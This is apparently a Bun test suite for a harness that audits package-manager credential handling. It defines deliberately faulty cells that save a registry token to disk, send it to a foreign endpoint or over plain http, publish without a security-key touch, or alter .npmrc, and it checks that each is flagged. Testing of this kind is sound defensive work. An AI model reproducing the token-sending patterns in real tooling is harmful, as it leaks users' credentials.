/** The matrix fails where it should: cells whose package manager does what none may do. */
import { beforeAll, describe, expect, test } from "bun:test";
import { appendFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Cell, Driver } from "./cell.ts";
import type { Desk } from "./desk.ts";
import { type MatrixRun, runMatrix } from "./matrix.ts";
import { foreignEndpoint } from "./others.ts";

const token = (desk: Desk) => desk.vouch("credential", "codeartifact");
const npmrc = (desk: Desk) => join(desk.home, ".npmrc");

function cell(name: string, install: NonNullable<Driver["install"]>, needs: string[] = []): Cell {
  const own = { ".npmrc": "fund=false\n" };
  const setup = ["--tool", "npm"];
  return { tool: "sh", name, needs, driver: { format: "npm", setup, own, prepare: async () => "1", install } };
}

/** Publishes by this script of a shell, where a touch is needed for it. */
function publishing(name: string, script: string): Cell {
  const { driver, ...more } = cell(name, async () => {});
  const publish = (desk: Desk) => desk.publish(["sh", "-c", script]);
  return { ...more, byTouch: true, driver: { ...driver, publish, publishedAt: (desk) => desk.package } };
}
const refusal = "needs a touch of your security key";

const cells = [
  publishing("publishes without a touch", "exit 0"),
  publishing("fails without saying why", "exit 1"),
  publishing("is not allowed with a touch, either", `echo ${refusal}; exit 1`),
  publishing("publishes without asking", `test -t 0 || { echo ${refusal}; exit 1; }`),
  publishing(
    "publishes with another role",
    `test -t 0 || { echo ${refusal}; exit 1; }; echo asks to publish it. Touch your security key to allow it.`,
  ),
  cell("passes", async () => {}),
  cell("saves the token", async (desk) => writeFileSync(join(desk.home, "saved"), await token(desk))),
  cell("saves it as Basic authentication", async (desk) =>
    writeFileSync(join(desk.home, "saved"), btoa(`aws:${await token(desk)}`)),
  ),
  cell("sends the token to somebody else", async (desk) => {
    const authorization = `Bearer ${await token(desk)}`;
    await desk.office.laptop.sandbox.fetch(foreignEndpoint("npm"), { headers: { authorization } });
  }),
  cell("sends it over plain http", async (desk) => {
    const request = { headers: { authorization: `Bearer ${await token(desk)}` }, proxy: desk.env["HTTP_PROXY"]! };
    await fetch("http://plain.example/", request);
  }),
  cell("has a command that fails", async (desk) => {
    await desk.run(["sh", "-c", "seq 100; echo the reason >&2; exit 7"]);
  }),
  {
    ...cell("hangs, and so does its child", async (desk) => {
      await desk.run(["sh", "-c", "sleep 1000 & sleep 1000; wait"]);
    }),
    limitMs: 5000,
  },
  cell("fetches nothing", async (desk) => desk.expectFetched("npm", /\.tgz$/)),
  cell("asks nobody else", async (desk) => desk.expectForeignAsked()),
  cell("leaves another line in a file", async (desk) => appendFileSync(npmrc(desk), "audit=false\n")),
  cell("is configured by hand", async (desk) => desk.byHand(".tool/config", "credential=vouch\n")),
  cell("is not installed", async () => {}, ["/nonexistent/tool"]),
];

let run: MatrixRun;
const said: string[] = [];

beforeAll(async () => {
  run = await runMatrix(cells, { jobs: 2, demandAll: false, say: (text) => said.push(text) });
});

const messageOf = (name: string) => run.outcome.failed.find((failure) => failure.test === name)?.message;

describe("a cell fails that", () => {
  test.each([
    ["saves the token", "a token stands in saved"],
    ["saves it as Basic authentication", "a token stands in saved"],
    ["publishes without a touch", "with 0 without a terminal"],
    ["fails without saying why", "why nothing is published"],
    ["is not allowed with a touch, either", "with 1 on a terminal"],
    ["publishes without asking", "the question: expected"],
    ["publishes with another role", "the uploads are not those of vouch-publisher: []"],
    ["fetches nothing", "was fetched with a token"],
    ["asks nobody else", "nobody else's registry was asked"],
    ["leaves another line in a file", "--remove left .npmrc other than it was"],
    ["hangs, and so does its child", "at the cell's limit of time"],
  ])("%s", (name, message) => expect(messageOf(name)).toContain(message));

  test("has a command that fails, which is named with its exit code and the end of its output", () => {
    const message = messageOf("has a command that fails")!;
    expect(message).toStartWith("sh -c seq 100");
    expect(message).toContain("with 7");
    expect(message).toContain("100\nthe reason");
    expect(message).not.toMatch(/^50$/m);
  });
});

test("a token that went to somebody else, or over plain http, is counted and a failure", () => {
  expect(run.report.tokens_to_others).toBe(2);
  expect(messageOf("no token goes to somebody else")).toBeDefined();
});

test("the report counts what passed and failed, tokens in files, and what was written by hand", () => {
  const { skipped, ...counts } = run.report;
  expect(counts).toEqual({
    cells: 16,
    passed: 4,
    failed: 14,
    tokens_on_disk: 2,
    tokens_to_others: 2,
    files_edited_by_hand: 1,
  });
  expect(skipped[0]).toStartWith("is not installed: needs /nonexistent/tool");
  expect(run.outcome).toMatchObject({ tests: 19, failures: 14, skipped: 1 });
});

test("what became of each cell is said", () => {
  expect(said.filter((line) => line.startsWith("passed "))).toHaveLength(4);
  expect(said.join("\n")).toContain("skipped  is not installed");
});

test("a program that is missing where all are installed is a failure", async () => {
  const { report, outcome } = await runMatrix(cells.slice(-1), { jobs: 1, demandAll: true, say: () => {} });
  expect(report).toMatchObject({ cells: 0, passed: 0, failed: 1 });
  expect(outcome).toMatchObject({ tests: 1, failures: 1, skipped: 0 });
});
